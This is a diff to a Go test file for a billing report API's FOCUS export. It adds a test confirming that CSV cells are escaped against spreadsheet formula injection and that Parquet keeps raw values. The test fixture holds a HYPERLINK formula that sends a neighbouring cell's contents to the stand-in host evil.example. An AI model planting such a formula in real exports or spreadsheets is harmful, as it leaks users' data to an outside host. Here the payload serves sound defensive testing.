@@ -9,6 +9,7 @@ import (
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -58,7 +59,7 @@ func TestFOCUSStream(t *testing.T) {
 		{name: "whole", status: 200, rows: 2 * hours, encoding: focus.CSV},
 		{name: "parquet", query: "&encoding=parquet", status: 200, rows: 2 * hours, encoding: focus.Parquet},
 		{name: "bad encoding", query: "&encoding=xml", status: 400, reason: `encoding: "xml"; expected csv or parquet`},
-		{name: "hour 1 fails", failAt: from, status: 500, reason: "read the minutes: connection reset"},
+		{name: "hour 1 fails", failAt: from, status: 500, reason: "internal error: the service's log has the reason under error_id"},
 		{name: "hour 3 fails", failAt: from.Add(2 * time.Hour), status: 200, cut: true, rows: 2, encoding: focus.CSV},
 		{name: "parquet, hour 3 fails", failAt: from.Add(2 * time.Hour), query: "&encoding=parquet", status: 200, cut: true},
 		{name: "rows over the limit in hour 1", maxRows: 1, status: 400, reason: "--api.max-report-rows"},
@@ -118,5 +119,45 @@ func TestFOCUSStream(t *testing.T) {
 				t.Errorf("%d rows received; want %d (at least, if cut: %v)", got, tc.rows, tc.cut)
 			}
 		})
+	}
+}
+
+// TestFOCUSFormulaCells: the API's FOCUS export writes an allocation id a spreadsheet would
+// evaluate with a leading ' in x_AllocationId and ChargeDescription (CSV); Parquet keeps it.
+func TestFOCUSFormulaCells(t *testing.T) {
+	const id = `=HYPERLINK("http://evil.example/?x="&A2,"click")`
+	from := time.Date(2026, 1, 5, 0, 0, 0, 0, time.UTC)
+	s := &Server{Store: &memStore{}, Auth: AllowAll{}, Report: func(_ context.Context, q ReportQuery) (report.Report, error) {
+		return report.Report{WindowStart: q.From, WindowEnd: q.To, Currency: "USD", Allocations: []report.AllocationRow{{Tenant: "acme",
+			AllocationID: id, Tier: "pro", WindowStart: q.From, WindowEnd: q.To, Node: "n", Instance: "gpu0", Kind: "gpu",
+			Model: "A100-SXM4-40GB", Fraction: 1, Allocated: q.To.Sub(q.From), Cost: 1, ListCost: 1, Currency: "USD"}}}, nil
+	}}
+	srv := httptest.NewServer(http.HandlerFunc(s.getReport))
+	defer srv.Close()
+	get := func(query string) []byte {
+		resp, err := http.Get(srv.URL + "/api/v1/report?format=focus&from=" + from.Format(time.RFC3339) + "&to=" + from.Add(time.Hour).Format(time.RFC3339) + query)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		b, _ := io.ReadAll(resp.Body)
+		if resp.StatusCode != 200 {
+			t.Fatalf("status %d: %s", resp.StatusCode, b)
+		}
+		return b
+	}
+	rows, err := csv.NewReader(bytes.NewReader(get(""))).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%d rows, %v", len(rows), err)
+	}
+	for _, col := range []string{"x_AllocationId", "ChargeDescription"} {
+		if got := rows[1][slices.Index(rows[0], col)]; !strings.HasPrefix(got, "'"+id) {
+			t.Errorf("%s %q, want it to start with '%s", col, got, id)
+		}
+	}
+	b := get("&encoding=parquet")
+	pq, err := parquet.Read[focus.Row](bytes.NewReader(b), int64(len(b)))
+	if err != nil || len(pq) != 1 || pq[0].XAllocationID == nil || *pq[0].XAllocationID != id {
+		t.Errorf("Parquet: %v, %d rows; want the raw id", err, len(pq))
 	}
 }
